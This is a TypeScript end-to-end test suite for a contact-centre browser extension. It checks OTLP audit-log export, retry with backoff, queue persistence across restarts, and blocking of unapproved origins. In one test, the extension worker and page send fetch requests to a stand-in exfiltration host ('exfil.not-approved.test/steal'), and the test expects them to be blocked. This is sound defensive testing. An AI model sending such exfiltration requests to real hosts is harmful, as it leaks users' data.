import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startOtlpReceiver, type OtlpReceiver } from '../../src/cli/preview/otlpReceiver.ts';
import { startHostileHttpsServer, type HostileHttpsServer } from './support/hostileHttpsServer.ts';
import { EXTENSION_ORIGIN, startShieldSession, type ShieldSession } from './support/shieldSession.ts';
import { stopServiceWorker } from './support/stopServiceWorker.ts';
import { storedAuditIds, storedAuditLog } from './support/storedValues.ts';

const COLLECTOR_HOST = 'otel.audit-collector.test';
const ENDPOINT = `https://${COLLECTOR_HOST}/v1/logs`;
/** An https origin the CSP lets through (connect-src https:) but the policy does not approve. */
const EXFIL_HOST = 'exfil.not-approved.test';
const SECOND = 'https://second.my.connect.aws';
const API_KEY = 'sk-collector-canary-5521';
/** The outage the issue names: the collector refuses for a minute, through several growing backoff steps. */
const OUTAGE_MS = Number(process.env.AUDIT_E2E_OUTAGE_MS ?? 60_000);
/**
 * Backoff ceilings double from 2 s and each retry waits in the upper half of its ceiling, so the
 * first retry after the outage ends can come up to about one outage later: wait that long, plus slack.
 */
const AFTER_OUTAGE = { timeout: 2 * OUTAGE_MS + 60_000, interval: 500 };
/** Shorter refusals where the length of the outage is not what a test is about. */
const SHORT_OUTAGE_MS = 12_000;
const ARRIVAL = { timeout: 90_000, interval: 500 };
const POLICY = {
  approvedOrigins: [`https://${COLLECTOR_HOST}`],
  audit: { endpoint: ENDPOINT, headers: [{ name: 'X-Api-Key', value: API_KEY }] },
  secureIvr: { fields: [{ label: 'Card number', valueAttribute: 'card_number', statusAttribute: 'card_capture_status' }] },
};

describe('audit export over OTLP/HTTP in the real browser', () => {
  let receiver: OtlpReceiver;
  let hostile: HostileHttpsServer;
  let session: ShieldSession;
  let page: Page;
  const userDataDir = mkdtempSync(join(tmpdir(), 'connect-shield-audit-'));

  const start = () =>
    startShieldSession({
      userDataDir,
      extraHostRules: [
        `MAP ${COLLECTOR_HOST} 127.0.0.1:${receiver.port}`,
        `MAP ${EXFIL_HOST} 127.0.0.1:${hostile.port}`,
        `MAP second.my.connect.aws 127.0.0.1:${hostile.port}`,
      ],
      extraSpkiHashes: [receiver.spkiHash, hostile.spkiHash],
      withPolicy: POLICY,
    });

  beforeAll(async () => {
    receiver = await startOtlpReceiver([COLLECTOR_HOST], ['X-Api-Key', 'Cookie'], EXTENSION_ORIGIN);
    hostile = await startHostileHttpsServer([EXFIL_HOST, 'second.my.connect.aws']);
    session = await start();
    page = await session.openDesk();
  });
  afterAll(async () => {
    await session?.close();
    await receiver?.close();
    await hostile?.close();
    rmSync(userDataDir, { recursive: true, force: true });
  });

  /** Distinct events that arrived, by their ID (`log.record.uid`). */
  const arrivedIds = () => new Set(receiver.records().map((record) => String(record.attributes['log.record.uid'])));
  const storedIds = async () => {
    const worker = await session.shield.worker();
    const local = await worker.evaluate(() => chrome.storage.local.get(null));
    return { events: storedAuditLog({ local }), ids: storedAuditIds({ local }) };
  };
  const blockedFetch = (on: Page, url: string) =>
    on.evaluate(
      (target) =>
        fetch(target).then(
          (response) => `ok ${response.status}`,
          () => 'failed',
        ),
      url,
    );
  /** Distinct arrived events of one type (by ID), with their details. */
  const arrived = (type: string) => [
    ...new Map(
      receiver
        .records()
        .filter((record) => record.eventName === type)
        .map((record) => [String(record.attributes['log.record.uid']), record.attributes] as const),
    ).values(),
  ];
  const incident = async (n: number) => {
    await session.emulator.control.addContact({
      type: 'voice',
      attributes: { card_number: `4111 1111 1111 ${String(1000 + n)}`, card_capture_status: 'captured' },
    });
  };

  it('sends the events of a session to the collector as OTLP logs, with the API key and the resource', async () => {
    expect(await blockedFetch(page, `${SECOND}/session-${Date.now()}`)).toBe('failed');
    await incident(1);
    await expect
      .poll(() => receiver.records().map((record) => record.eventName), ARRIVAL)
      .toEqual(expect.arrayContaining(['policy.loaded', 'origin.blocked', 'ivr.plaintext_incident']));
    // A hand-installed browser: the policy came from the local settings of an evaluation install.
    expect(arrived('policy.loaded')).toEqual([expect.objectContaining({ 'audit.source': 'evaluation' })]);
    const posts = receiver.requests().filter((request) => request.path === '/v1/logs');
    expect(posts.every((request) => request.headers['X-Api-Key'] === API_KEY && request.headers.Cookie === '')).toBe(true);
    const [first] = receiver.records();
    expect(first?.resource).toMatchObject({
      'service.name': 'connect-shield',
      'service.version': expect.any(String),
      'service.instance.id': expect.stringMatching(/^[0-9a-f-]{36}$/),
      'connect_shield.extension_id': session.shield.extensionId,
      'connect_shield.connect_instance': new URL(session.emulator.ccpUrl).origin,
      'browser.brands': expect.arrayContaining([expect.stringMatching(/Chromium/)]),
    });
    const everything = JSON.stringify(receiver.records());
    expect(everything).not.toMatch(/4111\s?1111\s?1111/);
    // The key stays in the worker: not in the pages' policy state, not in the shell's DOM.
    const { session: sessionStorage } = await session.shield.storageDump();
    expect(JSON.stringify(sessionStorage)).not.toContain(API_KEY);
    expect(await page.content()).not.toContain(API_KEY);
  });

  it('announces a changed policy once, naming the top-level sections that changed', async () => {
    const instance = { ccpUrl: session.emulator.ccpUrl, region: session.emulator.region };
    await session.shield.setLocalPolicy({ instance, ...POLICY, dialing: { defaultCountry: 'JP' }, roles: { revealSeconds: 45 } });
    await expect.poll(() => arrived('policy.changed').map((attributes) => attributes['audit.sections']), ARRIVAL).toEqual([['dialing', 'roles']]);
    await session.shield.setLocalPolicy({ instance, ...POLICY });
    await expect.poll(() => arrived('policy.changed').length, ARRIVAL).toBe(2);
    expect(arrived('policy.loaded')).toHaveLength(1);
  });

  it(
    'holds events while the collector refuses (503), retries with backoff, and delivers each exactly once after de-duplication',
    async () => {
      const before = receiver.requests().length;
      receiver.refuseFor(OUTAGE_MS);
      for (let n = 0; n < 5; n += 1) expect(await blockedFetch(page, `https://outage-${n}.my.connect.aws/x`)).toBe('failed');
      await incident(2);
      await expect.poll(async () => (await storedIds()).ids.every((id) => arrivedIds().has(id)), AFTER_OUTAGE).toBe(true);
      const refused = receiver
        .requests()
        .slice(before)
        .filter((request) => request.status === 503);
      expect(refused.length).toBeGreaterThanOrEqual(2);
      const { ids } = await storedIds();
      const counts = new Map<string, number>();
      receiver
        .records()
        .forEach((record) => counts.set(String(record.attributes['log.record.uid']), (counts.get(String(record.attributes['log.record.uid'])) ?? 0) + 1));
      // At-least-once: every stored event arrived; after de-duplication by ID each counts once.
      expect(ids.filter((id) => !counts.has(id))).toEqual([]);
      expect(new Set(receiver.records().map((record) => record.attributes['connect_shield.sequence'])).size).toBe(arrivedIds().size);
    },
    AFTER_OUTAGE.timeout + 60_000,
  );

  it('resumes the queue after the service worker is stopped mid-queue', async () => {
    receiver.refuseFor(SHORT_OUTAGE_MS);
    for (let n = 0; n < 3; n += 1) expect(await blockedFetch(page, `https://stopped-${n}.my.connect.aws/x`)).toBe('failed');
    await expect.poll(async () => (await storedIds()).ids.filter((id) => !arrivedIds().has(id)).length, ARRIVAL).toBeGreaterThanOrEqual(3);
    const pending = (await storedIds()).ids.filter((id) => !arrivedIds().has(id));
    // Really stopped: the shared helper waits until Chromium reports the worker stopped.
    await stopServiceWorker(session.shield, page);
    // Nothing wakes the worker but its alarm: the page stays idle, the collector recovers on its own.
    // The backoff may have grown to tens of seconds and Chromium rounds alarms up, so on a loaded
    // machine the wake-up can come late: a longer wait, not a looser check.
    await expect.poll(() => pending.every((id) => arrivedIds().has(id)), { ...ARRIVAL, timeout: 240_000 }).toBe(true);
  }, 360_000);

  it('keeps events queued across a browser restart and delivers them after the next start', async () => {
    receiver.refuseFor(10 * 60_000);
    for (let n = 0; n < 3; n += 1) expect(await blockedFetch(page, `https://restart-${n}.my.connect.aws/x`)).toBe('failed');
    await expect.poll(async () => (await storedIds()).ids.filter((id) => !arrivedIds().has(id)).length, ARRIVAL).toBeGreaterThanOrEqual(3);
    const pending = (await storedIds()).ids.filter((id) => !arrivedIds().has(id));
    await session.close();
    receiver.refuseFor(0);
    session = await start();
    page = await session.openDesk();
    await expect.poll(() => pending.filter((id) => !arrivedIds().has(id)), ARRIVAL).toEqual([]);
    // Neither the stopped-and-woken worker nor the restarted browser announced the same policy again.
    expect(arrived('policy.loaded')).toHaveLength(1);
    expect(arrived('policy.changed')).toHaveLength(2);
  });

  it('blocks a request to an origin that is not approved although the CSP would allow it', async () => {
    const manifest = JSON.parse(readFileSync('dist/manifest.json', 'utf8')) as { content_security_policy: { extension_pages: string } };
    expect(manifest.content_security_policy.extension_pages).toMatch(/connect-src[^;]* https:[ ;]/);
    const worker = await session.shield.worker();
    const fromWorker = (url: string) =>
      worker.evaluate(
        (target) =>
          fetch(target, { method: 'POST', body: 'x' }).then(
            (response) => `ok ${response.status}`,
            (error: unknown) => `failed ${String(error)}`,
          ),
        url,
      );
    // Control: the approved endpoint is reachable from the worker, so nothing but the rules stands in the way below.
    expect(await fromWorker(ENDPOINT)).toBe('ok 400');
    expect(await fromWorker(`https://${EXFIL_HOST}/steal`)).toMatch(/^failed/);
    expect(await blockedFetch(page, `https://${EXFIL_HOST}/steal-from-page`)).toBe('failed');
    expect(hostile.requests().filter((line) => line.includes(EXFIL_HOST))).toEqual([]);
  });
});
